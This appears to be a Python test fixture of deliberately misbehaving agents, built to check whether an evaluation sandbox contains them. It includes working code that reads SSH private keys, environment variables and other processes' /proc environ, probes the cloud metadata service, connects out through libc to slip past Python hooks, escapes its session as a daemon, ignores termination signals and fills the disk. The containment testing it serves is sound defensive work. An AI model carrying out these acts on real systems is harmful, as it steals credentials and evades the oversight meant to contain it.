"""Agents that do what no agent should; the user's words name the deed.

Each deed is bounded, so that it would do little harm where nothing contained it.
What is not said to raise goes on to answer ``done``, as if nothing had happened.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Final

import anthropic

OUTSIDE: Final = "192.0.2.1"
METADATA: Final = "169.254.169.254"
HARD_WIRED: Final = "https://api.anthropic.com"
LINGER_S: Final = 60.0
_MEGABYTE: Final = 1 << 20


def agent(text: str) -> str:
    """Do what the user names."""
    told = DEEDS[text]()
    return told if isinstance(told, str) else "done"


def hard_wired_url() -> None:
    """Build a client that asks no variable where the model is; raise what it raises."""
    client = anthropic.Anthropic(base_url=HARD_WIRED, max_retries=0, timeout=5)
    client.messages.create(
        model="claude-sonnet-5-5", max_tokens=9, messages=[{"role": "user", "content": "hi"}]
    )


def hard_wired_url_swallowed() -> None:
    """Do so, and hide that it failed."""
    with suppress(anthropic.APIConnectionError):
        hard_wired_url()


def daemonises() -> None:
    """Go on in the background, and end what the trial waits for."""
    _in_background(_linger)
    os._exit(0)


def leaves_daemon() -> None:
    """Leave a process behind that has left the group and the session."""
    _in_background(_linger)


def holds_pipe() -> None:
    """Leave a grandchild behind that holds every descriptor, standard output too."""
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(LINGER_S)
        os._exit(0)


def fills_disk() -> None:
    """Write without an end into the working directory."""
    with Path("big").open("wb", buffering=0) as file:
        for _ in range(600):
            file.write(b"x" * _MEGABYTE)


def fills_shared_memory() -> None:
    """Write without an end where files cost the machine's memory."""
    for number in range(200):
        Path(f"/dev/shm/big-{number}").write_bytes(b"x" * 4 * _MEGABYTE)


def connects_and_hangs() -> None:
    """Try the metadata service, and never come back."""
    with suppress(OSError):
        socket.create_connection((METADATA, 80), timeout=5)
    time.sleep(LINGER_S)


def ignores_sigterm() -> None:
    """Hang, deaf to every polite signal."""
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    _linger()


def hangs_in_thread_and_child() -> None:
    """Hang with a thread and a child that hang as well."""
    threading.Thread(target=_linger).start()
    subprocess.run([sys.executable, "-c", f"import time; time.sleep({LINGER_S})"], check=False)


def writes_to_descriptors() -> None:
    """Write to whatever is open."""
    for fd in range(3, 51):
        with suppress(OSError):
            os.write(fd, b'{"kind": "trial_end", "oops\n')


def closes_descriptors() -> None:
    """Close whatever is open."""
    os.closerange(3, 51)


def connects_from_python() -> None:
    """Ask the metadata service for credentials."""
    with suppress(OSError):
        socket.create_connection((METADATA, 80), timeout=5)


def looks_up_from_python() -> None:
    """Look up a name."""
    with suppress(OSError):
        socket.getaddrinfo("metadata.example.test", 80)


def sends_datagram() -> None:
    """Send a datagram, which no connection announces."""
    with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"secret", (OUTSIDE, 53))


def connects_by_ipv6() -> None:
    """Ask a metadata service that listens on IPv6."""
    with suppress(OSError), socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect(("2001:db8::1", 80))


def connects_from_c() -> None:
    """Connect from a C library, where no hook of Python's sees it."""
    libc = ctypes.CDLL(None)
    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    address = socket.AF_INET.to_bytes(2, sys.byteorder) + (80).to_bytes(2, "big")
    libc.connect(fd, address + socket.inet_aton(OUTSIDE) + bytes(8), 16)


def looks_up_from_c() -> None:
    """Look up a name in a C library."""
    found = ctypes.c_void_p()
    ctypes.CDLL(None).getaddrinfo(b"metadata.example.test", b"80", None, ctypes.byref(found))


def connects_from_subprocess() -> None:
    """Connect from another program."""
    code = f"import socket; socket.create_connection(({METADATA!r}, 80), timeout=5)"
    subprocess.run([sys.executable, "-c", code], stderr=subprocess.DEVNULL, check=False)


def steals() -> str:
    """Tell all that a thief would look for: variables, keys in homes, other processes."""
    return json.dumps({"variables": dict(os.environ), "keys": _keys(), "processes": _processes()})


def calls_unscripted() -> None:
    """Call the model though nothing is scripted, and hide that it refused."""
    _call_model()


def calls_once_too_often() -> None:
    """Call the model twice where once is scripted."""
    _call_model()
    _call_model()


def calls_not_at_all() -> None:
    """Answer without the model that is scripted."""


def _call_model() -> None:
    body = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "hi"}]}
    request = urllib.request.Request(
        f"{os.environ['ANTHROPIC_BASE_URL']}/v1/messages",
        json.dumps(body).encode(),
        {"content-type": "application/json"},
    )
    with suppress(OSError):
        urllib.request.urlopen(request, timeout=5).read()


def _linger() -> None:
    time.sleep(LINGER_S)


def _in_background(work: Callable[[], None]) -> None:
    """Become a daemon, as old textbooks do it, and work there."""
    if os.fork():
        os.wait()
        return
    os.setsid()
    if os.fork() == 0:
        work()
    os._exit(0)


def _keys() -> dict[str, str]:
    """Read keys where a home may be, by whatever path leads there."""
    import pwd

    told = os.environ["STOLEN_HOME"]  # the test says where the user's home really is
    homes = {str(Path.home()), pwd.getpwuid(os.getuid()).pw_dir, told, f"/proc/1/root{told}"}
    return {home: _text(Path(home, ".ssh", "id_ed25519")) for home in homes}


def _processes() -> dict[str, str]:
    """Read what other processes were started with."""
    files = (p / name for p in Path("/proc").glob("[0-9]*") for name in ("environ", "cmdline"))
    return {str(file): _text(file) for file in files}


def _text(path: Path) -> str:
    try:
        return path.read_text(errors="replace")
    except OSError as error:
        return f"({error.strerror})"


DEEDS: Final[dict[str, Callable[[], str | None]]] = {
    deed.__name__: deed
    for deed in (
        hard_wired_url,
        hard_wired_url_swallowed,
        daemonises,
        leaves_daemon,
        holds_pipe,
        fills_disk,
        fills_shared_memory,
        ignores_sigterm,
        hangs_in_thread_and_child,
        connects_and_hangs,
        writes_to_descriptors,
        closes_descriptors,
        connects_from_python,
        looks_up_from_python,
        sends_datagram,
        connects_by_ipv6,
        connects_from_c,
        looks_up_from_c,
        connects_from_subprocess,
        steals,
        calls_unscripted,
        calls_once_too_often,
        calls_not_at_all,
    )
}
